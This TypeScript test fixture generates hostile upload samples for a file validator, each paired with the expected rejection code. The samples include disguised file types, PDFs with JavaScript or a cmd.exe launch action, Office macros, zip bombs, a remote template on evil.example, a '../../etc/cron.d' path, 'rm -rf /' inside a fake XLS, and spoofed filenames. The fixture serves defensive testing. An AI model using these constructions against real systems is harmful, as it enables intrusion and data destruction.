/** Files that must not be taken, each with what is answered. Made here: nothing hostile lies in the repository. */
import { file, type Hostile } from './hostileFile'
import { makeCompound, makeDocument, makeWorkbook, type Part } from './madeCompound'
import {
  contentTypes,
  makeHugePng,
  makeJpeg,
  makeOffice,
  makePdf,
  makePng,
  makeZip,
  packedObjects,
  stream,
} from './madeFiles'

const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const HTML = '<!doctype html><html><script>alert(1)</script></html>'
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const OFFICE = 'application/vnd.openxmlformats-officedocument'
const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml'

export async function hostileFiles(): Promise<Hostile[]> {
  return [...(await disguised()), ...pdfs(), ...packages(), ...olds(), ...(await images()), ...named()]
}

async function disguised(): Promise<Hostile[]> {
  const [jpeg, png] = [await makeJpeg(), await makePng()]
  return [
    file('SVG as JPG', 'foto.jpg', SVG, 'FILE_TYPE_MISMATCH'),
    file('SVG as PNG', 'foto.png', SVG, 'FILE_TYPE_MISMATCH'),
    file('HTML as PDF', 'factuur.pdf', HTML, 'FILE_TYPE_MISMATCH'),
    file('HTML as DOC', 'brief.doc', HTML, 'FILE_TYPE_MISMATCH'),
    file('a program as PDF', 'factuur.pdf', 'MZ\x90\0\x03\0\0\0', 'FILE_TYPE_MISMATCH'),
    file('a shell script as XLS', 'lijst.xls', '#!/bin/sh\nrm -rf /', 'FILE_TYPE_MISMATCH'),
    file('a zip as JPG', 'foto.jpg', makeZip([{ name: 'a.txt', data: 'a' }]), 'FILE_TYPE_MISMATCH'),
    file('PNG as JPG', 'foto.jpg', png, 'FILE_TYPE_MISMATCH'),
    file('JPG as PDF', 'factuur.pdf', jpeg, 'FILE_TYPE_MISMATCH'),
    file('PDF as DOCX', 'brief.docx', makePdf(), 'FILE_TYPE_MISMATCH'),
    file('a JPG declared as HTML', 'foto.jpg', jpeg, 'FILE_TYPE_MISMATCH', 'text/html'),
    file('a PDF declared as a picture', 'factuur.pdf', makePdf(), 'FILE_TYPE_MISMATCH', 'image/png'),
    file('a JPG declared as SVG', 'foto.jpg', jpeg, 'FILE_TYPE_MISMATCH', 'image/svg+xml'),
    file('nothing', 'leeg.pdf', '', 'FILE_EMPTY'),
    file('one byte', 'klein.png', '\x89', 'FILE_TYPE_MISMATCH'),
  ]
}

function pdfs(): Hostile[] {
  const pdf = makePdf()
  const zip = makeZip([{ name: 'a.txt', data: 'a' }])
  const unnamed = packedObjects(`7 0 ${SCRIPT}`).replace('/Type /ObjStm', '')
  const spelled = SCRIPT.replace('Java', 'J#61v#61')
  const attached = stream('/Type /EmbeddedFile', Buffer.from('MZ'))
  return [
    file('PDF with HTML behind it', 'a.pdf', Buffer.concat([pdf, Buffer.from(HTML)]), 'FILE_UNSAFE'),
    file('PDF with HTML at its head', 'a.pdf', `%PDF-1.7\n${HTML}\n${makePdf().toString('latin1')}`, 'FILE_UNSAFE'),
    file('PDF with a zip behind it', 'a.pdf', Buffer.concat([pdf, zip]), 'FILE_UNSAFE'),
    file('PDF with a small zip behind it', 'a.pdf', Buffer.concat([pdf, zip.subarray(-22)]), 'FILE_UNSAFE'),
    file('PDF with a zip inside', 'a.pdf', makePdf([stream('', zip)]), 'FILE_UNSAFE'),
    file('PDF with a script', 'a.pdf', makePdf([SCRIPT]), 'FILE_HAS_CODE'),
    file('PDF with a script in other letters', 'a.pdf', makePdf([spelled]), 'FILE_HAS_CODE'),
    file('PDF with a packed script', 'a.pdf', makePdf([packedObjects(`7 0 ${SCRIPT}`)]), 'FILE_HAS_CODE'),
    file('PDF with a script in packed objects not called so', 'a.pdf', makePdf([unnamed]), 'FILE_HAS_CODE'),
    file(
      'PDF with objects packed a thousandfold',
      'a.pdf',
      makePdf([packedObjects(' '.repeat(40_000_000))]),
      'FILE_UNSAFE',
    ),
    file('PDF that starts a program', 'a.pdf', makePdf(['<< /S /Launch /F (cmd.exe) >>']), 'FILE_HAS_CODE'),
    file('PDF with a file inside', 'a.pdf', makePdf([attached]), 'FILE_HAS_CODE'),
    file('PDF with a password', 'a.pdf', makePdf([], { trailer: '/Encrypt 9 0 R ' }), 'FILE_PROTECTED'),
    file('PDF of streams that never end', 'a.pdf', makePdf([endless('stream\n')]), 'FILE_DAMAGED'),
    file(
      'PDF of packed objects with one far end',
      'a.pdf',
      makePdf([`${endless('/Type/ObjStm stream\n')}\nendstream`]),
      'FILE_UNSAFE',
    ),
    file('half a PDF', 'a.pdf', pdf.subarray(0, pdf.length / 2), 'FILE_DAMAGED'),
    file('the head of a PDF', 'a.pdf', '%PDF-1.7\n', 'FILE_DAMAGED'),
  ]
}

function packages(): Hostile[] {
  const macro = [{ name: 'word/vbaProject.bin', data: 'Sub AutoOpen()' }]
  const outside = `<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
  const docx = (
    what: string,
    code: string,
    ...of: Parameters<typeof makeOffice> extends [unknown, ...infer R] ? R : never
  ) => file(what, 'brief.docx', makeOffice('docx', ...of), code)
  const bomb = Buffer.alloc(40_000_000)
  const twin = [{ name: 'Word/document.xml', data: 'x' }]
  return [
    docx('a macro document as DOCX', 'FILE_HAS_CODE', macro),
    docx('a macro document by its type', 'FILE_HAS_CODE', [], contentTypes('/word/document.xml', MACRO_TYPE)),
    docx('a macro under another name', 'FILE_HAS_CODE', [{ name: 'word/x.dat', data: 'x' }], renamedMacro()),
    docx('a template from elsewhere', 'FILE_HAS_CODE', [{ name: 'word/_rels/settings.xml.rels', data: outside }]),
    docx('tags that never end', 'FILE_HAS_CODE', [
      { name: 'word/_rels/a.rels', data: endless('<Relationship ') },
      { name: 'word/_rels/b.rels', data: outside },
    ]),
    docx(
      'a megabyte of tags in every part',
      'FILE_UNSAFE',
      Array.from({ length: 100 }, (_, at) => ({ name: `word/_rels/${at}.rels`, data: endless('<Relationship ') })),
    ),
    docx('a program inside', 'FILE_HAS_CODE', [{ name: 'word/embeddings/oleObject1.bin', data: 'MZ' }]),
    docx('a zip bomb', 'FILE_UNSAFE', [{ name: 'word/media/a.bin', data: bomb }]),
    docx('a zip bomb that lies', 'FILE_UNSAFE', [{ name: 'word/a.xml', data: bomb, claims: 100 }]),
    docx('a path that climbs', 'FILE_UNSAFE', [{ name: '../../etc/cron.d/x', data: 'x' }]),
    docx('a part with two names', 'FILE_UNSAFE', [{ name: 'word/a.xml', localName: 'word/b.xml', data: 'x' }]),
    docx('a part that is there twice', 'FILE_UNSAFE', twin),
    docx('entities', 'FILE_UNSAFE', [], `<!DOCTYPE x [<!ENTITY a "b">]>${contentTypes('/word/document.xml', 'x')}`),
    ...foreign(),
  ]
}

function foreign(): Hostile[] {
  return [
    file('an Excel file as DOCX', 'brief.docx', makeOffice('xlsx'), 'FILE_TYPE_MISMATCH'),
    file('any zip as XLSX', 'lijst.xlsx', makeZip([{ name: 'a.txt', data: 'a' }]), 'FILE_TYPE_MISMATCH'),
    file(
      'a macro workbook as XLSX',
      'lijst.xlsx',
      makeOffice('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', data: 'x' }]),
      'FILE_HAS_CODE',
    ),
    file(
      'a zip with HTML before it',
      'a.docx',
      Buffer.concat([Buffer.from('PK\x03\x04<html>'), makeOffice('docx')]),
      'FILE_UNSAFE',
    ),
    file('a zip with HTML behind it', 'a.docx', Buffer.concat([makeOffice('docx'), Buffer.from(HTML)]), 'FILE_UNSAFE'),
  ]
}

/** A megabyte of it: what a check that begins anew at each would not come to the end of. */
const endless = (text: string): string => text.repeat(Math.floor((1024 * 1024) / text.length))

const renamedMacro = () =>
  contentTypes(
    '/word/document.xml',
    `${OFFICE}.wordprocessingml.document.main+xml`,
    '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>',
  )

function olds(): Hostile[] {
  const doc = (what: string, code: string, ...parts: Part[]) => file(what, 'a.doc', makeCompound(...parts), code)
  const letter = makeDocument()
  return [
    doc('a macro in an old Word file', 'FILE_HAS_CODE', letter, 'Macros'),
    doc('a macro under a name in small letters', 'FILE_HAS_CODE', letter, 'vba'),
    doc('a program in an old Word file', 'FILE_HAS_CODE', letter, '\x01Ole10Native'),
    doc('a control in an old Word file', 'FILE_HAS_CODE', letter, '\x03OCXNAME'),
    doc(
      'a workbook with macro sheets in an old Word file',
      'FILE_HAS_CODE',
      letter,
      makeWorkbook({ sheets: [[0, 1]] }),
    ),
    doc('an old Word file with a password', 'FILE_PROTECTED', makeDocument({ encrypted: true })),
    doc('an installer as DOC', 'FILE_TYPE_MISMATCH', 'Property'),
    doc('a locked document', 'FILE_PROTECTED', 'EncryptedPackage'),
    file('half an old Word file', 'a.doc', makeCompound(letter).subarray(0, 700), 'FILE_DAMAGED'),
    ...workbooks(),
  ]
}

function workbooks(): Hostile[] {
  const xls = (what: string, code: string, ...parts: Part[]) => file(what, 'a.xls', makeCompound(...parts), code)
  const [VISIBLE, HIDDEN, VERY_HIDDEN] = [0, 1, 2]
  const [SHEET, MACROS, MODULE] = [0, 1, 6]
  const plain = makeWorkbook()
  const renamed = { ...makeWorkbook({ sheets: [[VISIBLE, MACROS]] }), name: 'WORKBOOK' }
  return [
    xls('a macro in an old Excel file', 'FILE_HAS_CODE', plain, '_VBA_PROJECT_CUR'),
    xls('a macro sheet', 'FILE_HAS_CODE', makeWorkbook({ sheets: [[VISIBLE, MACROS]] })),
    xls(
      'a hidden macro sheet',
      'FILE_HAS_CODE',
      makeWorkbook({
        sheets: [
          [VISIBLE, SHEET],
          [HIDDEN, MACROS],
        ],
      }),
    ),
    xls('a very hidden macro sheet', 'FILE_HAS_CODE', makeWorkbook({ sheets: [[VERY_HIDDEN, MACROS]], rows: 800 })),
    xls('a macro sheet by bits that mean nothing', 'FILE_HAS_CODE', makeWorkbook({ sheets: [[0xfe, MACROS]] })),
    xls('a module of Excel 5', 'FILE_HAS_CODE', { ...makeWorkbook({ sheets: [[VISIBLE, MODULE]] }), name: 'Book' }),
    xls('a macro sheet that is listed as a sheet', 'FILE_HAS_CODE', makeWorkbook({ substream: 0x0040 })),
    xls('a macro sheet beside a decoy', 'FILE_HAS_CODE', plain, renamed),
    xls('a macro sheet of Excel 5 beside one of today', 'FILE_HAS_CODE', plain, { ...renamed, name: 'Book' }),
    xls('a workbook with a password, the known one too', 'FILE_PROTECTED', makeWorkbook({ password: true })),
    xls('a workbook without records', 'FILE_DAMAGED', 'Workbook'),
    xls('a workbook that is cut', 'FILE_DAMAGED', { ...plain, data: plain.data.subarray(0, 30) }),
    xls('a sheet that is nowhere', 'FILE_DAMAGED', makeWorkbook({ at: 0x7fffffff })),
    xls('a stream larger than its file', 'FILE_DAMAGED', { ...plain, claims: 0x7fffffff }),
    xls('a stream that is not all there', 'FILE_DAMAGED', { ...makeWorkbook({ rows: 800 }), claims: 30_000 }),
    xls('a stream in a circle', 'FILE_DAMAGED', { ...plain, circle: true, claims: 1000 }),
    xls(
      'more workbooks than there is room for',
      'FILE_DAMAGED',
      ...Array.from({ length: 60 }, () => ({ ...plain, claims: 4000 })),
    ),
  ]
}

async function images(): Promise<Hostile[]> {
  const [jpeg, png] = [await makeJpeg({ width: 400, height: 300 }), await makePng({ width: 400, height: 300 })]
  return [
    file('a PNG of 50,000 pixels a side', 'groot.png', makeHugePng(50_000, 50_000), 'IMAGE_TOO_LARGE'),
    file('a PNG of one endless row', 'lang.png', makeHugePng(60_000_000, 1), 'IMAGE_TOO_LARGE'),
    file('half a JPG', 'half.jpg', jpeg.subarray(0, jpeg.length / 2), 'FILE_DAMAGED'),
    file('half a PNG', 'half.png', png.subarray(0, png.length / 2), 'FILE_DAMAGED'),
    file('the head of a JPG and HTML', 'kop.jpg', `\xff\xd8\xff\xe0${HTML}`, 'FILE_TYPE_MISMATCH'),
  ]
}

function named(): Hostile[] {
  const refused = (what: string, name: string) =>
    file(what, name, makePdf(), 'FILE_TYPE_NOT_ALLOWED', 'application/pdf')
  return [
    refused('a program by its name', 'factuur.pdf.exe'),
    refused('a program behind a PDF’s ending', 'factuur.exe.pdf'),
    refused('a page by its name', 'foto.jpg.html'),
    refused('a name that reads backwards', 'factuur\u202efdp.exe'),
    refused('a name that ends in a dot and a space', 'factuur.exe. '),
    refused('a name that is cut', 'factuur.exe\0'),
    refused('a stream of a file system', 'factuur.exe::$DATA'),
    refused('no ending', 'factuur'),
    refused('an ending alone that is not on the list', '.htaccess'),
    refused('macros by the name', 'brief.docm'),
    refused('an Excel file with macros by the name', 'lijst.xlsm'),
    refused('a picture that is a program', 'logo.svg'),
  ]
}
